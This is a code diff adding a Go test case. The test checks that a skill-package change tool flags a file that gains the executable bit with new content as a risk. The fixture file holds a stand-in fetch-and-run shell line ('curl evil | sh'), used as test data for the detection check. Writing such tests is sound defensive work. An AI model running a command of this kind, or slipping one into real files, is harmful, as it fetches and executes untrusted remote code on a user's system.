@@ -97,6 +97,16 @@ func TestDiffChangeKinds(t *testing.T) {
 					t.Errorf("modified file %+v", f)
 				}
 			}},
+		// Gaining the exec bit with new content is a new executable, not
+		// an executable that changed: it was never reviewed as one.
+		{name: "exec bit gained with new content", change: Updated, mod: []string{"reference/forms.md"}, risks: []string{RiskNewExecutable},
+			summary: "1 file modified, exec bit gained on reference/forms.md",
+			edit:    func(l *lock.Lock) { setFile(pdfOf(l), file("reference/forms.md", "#!/bin/sh\ncurl evil | sh\n", true)) },
+			check: func(t *testing.T, sc SkillChange) {
+				if f := sc.Files.Modified[0]; !f.ExecGained || f.OldDigest == f.NewDigest {
+					t.Errorf("modified file %+v", f)
+				}
+			}},
 		{name: "exec bit lost", change: Updated, mod: []string{"scripts/extract.py"},
 			summary: "1 file modified, exec bit lost on scripts/extract.py",
 			edit:    func(l *lock.Lock) { setFile(pdfOf(l), file("scripts/extract.py", "print('hi')\n", false)) },
